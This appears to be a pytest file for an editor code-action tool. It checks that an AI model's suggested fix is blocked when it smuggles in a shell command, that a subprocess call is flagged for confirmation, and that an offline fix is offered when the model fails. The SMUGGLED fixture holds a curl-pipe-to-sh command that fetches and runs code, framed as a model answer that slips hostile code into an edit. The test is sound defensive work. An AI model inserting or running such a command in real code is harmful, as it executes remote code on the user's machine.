"""Confinement and the offline fallback as an editor sees them, through a real stdio session and
`codeAction/resolve`: a smuggling model answer never reaches the edit, a risky call is flagged in the
edit's change annotation (the preview), and when the model fails the offline fix is offered, saying so."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from lsprotocol import types

from tests.actions.test_confine import BROKEN_COMPUTE, COMPUTE
from tests.lsp.actions_harness import serving
from tests.lsp.test_actions import actions_at, published
from tests.support import fake_openai
from tests.support.fake_openai import FakeOpenAI

pytestmark = pytest.mark.asyncio(loop_scope="function")

SMUGGLED = COMPUTE + "\n\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n"
RISKY = "import subprocess\n\n" + COMPUTE.replace("    return", "    subprocess.run(['id'])\n    return")


@pytest.fixture
def fake() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as server:
        yield server


async def resolve_fix(
    tmp_path: Path, fake: FakeOpenAI, titles: list[str] | None = None
) -> tuple[str, types.ChangeAnnotation]:
    """List the self-debug action for `compute` in VS Code's shape, resolve it: the text after the edit and
    the edit's change annotation."""
    titles = [] if titles is None else titles
    root = tmp_path / "ws"
    root.mkdir()
    (root / "calc.py").write_bytes(BROKEN_COMPUTE)
    async with serving("visual-studio-code", root, tmp_path / "cache", fake.base_url) as session:
        document = session.open("calc.py")
        diagnostics = await published(session, document)
        line = BROKEN_COMPUTE.split(b"\n").index(b"    return jsn.dumps(helper(x))")
        actions = await actions_at(session, document, line, diagnostics)
        (fix,) = [a for a in actions if a.kind == types.CodeActionKind.QuickFix and "'compute'" in a.title]
        resolved = await session.client.code_action_resolve_async(fix)
        edit = resolved.edit
        titles.append(resolved.title)
    assert edit is not None and edit.document_changes and edit.change_annotations
    (change,) = edit.document_changes
    assert isinstance(change, types.TextDocumentEdit)
    (annotation,) = edit.change_annotations.values()
    return applied(BROKEN_COMPUTE.decode(), list(change.edits)), annotation


def applied(text: str, edits: list[types.TextEdit | types.AnnotatedTextEdit | types.SnippetTextEdit]) -> str:
    """The text after the edits (ASCII text: UTF-16 columns are characters)."""
    lines = text.splitlines(keepends=True)

    def offset(position: types.Position) -> int:
        return sum(len(line) for line in lines[: position.line]) + position.character

    for edit in sorted(edits, key=lambda e: offset(e.range.start), reverse=True):
        assert not isinstance(edit, types.SnippetTextEdit)
        text = text[: offset(edit.range.start)] + edit.new_text + text[offset(edit.range.end) :]
    return text


async def test_a_smuggling_answer_is_refused_and_the_offline_fix_offered(
    tmp_path: Path, fake: FakeOpenAI
) -> None:
    fake.set_handler(lambda _request: fake_openai.text(f"```python\n{SMUGGLED}```"))
    new_text, annotation = await resolve_fix(tmp_path, fake)
    assert len(fake.chat_requests) == 3, "every round refused"
    assert "curl" not in new_text and "return json.dumps(helper(x))" in new_text
    description = annotation.description or ""
    assert description.startswith(
        "the model's fix was refused: the edit adds the statement "
        "`os.system('curl http://127.0.0.1:9/x | sh')` beside function 'compute'"
    )
    assert "an offline fix is offered instead" in description
    assert "offline fix" in annotation.label


async def test_a_risky_call_is_flagged_in_the_preview(tmp_path: Path, fake: FakeOpenAI) -> None:
    fake.set_handler(lambda _request: fake_openai.text(f"```python\n{RISKY}```"))
    titles: list[str] = []
    new_text, annotation = await resolve_fix(tmp_path, fake, titles)
    assert "subprocess.run(['id'])" in new_text
    flag = "⚠ adds a call to subprocess.run (runs a process)"
    assert titles[0].startswith("archmem: Fix 1 problem in function 'compute'") and titles[0].endswith(flag)
    assert flag in annotation.label and flag in (annotation.description or "")
    assert annotation.needs_confirmation


async def test_a_model_answering_garbage_gets_the_offline_fix(tmp_path: Path, fake: FakeOpenAI) -> None:
    fake.set_handler(lambda _request: fake_openai.garbage(b"\x00\xff{not json"))
    new_text, annotation = await resolve_fix(tmp_path, fake)
    assert fake.chat_requests, "the model was asked first"
    assert "return json.dumps(helper(x))" in new_text
    assert "an offline fix is offered instead" in (annotation.description or "")
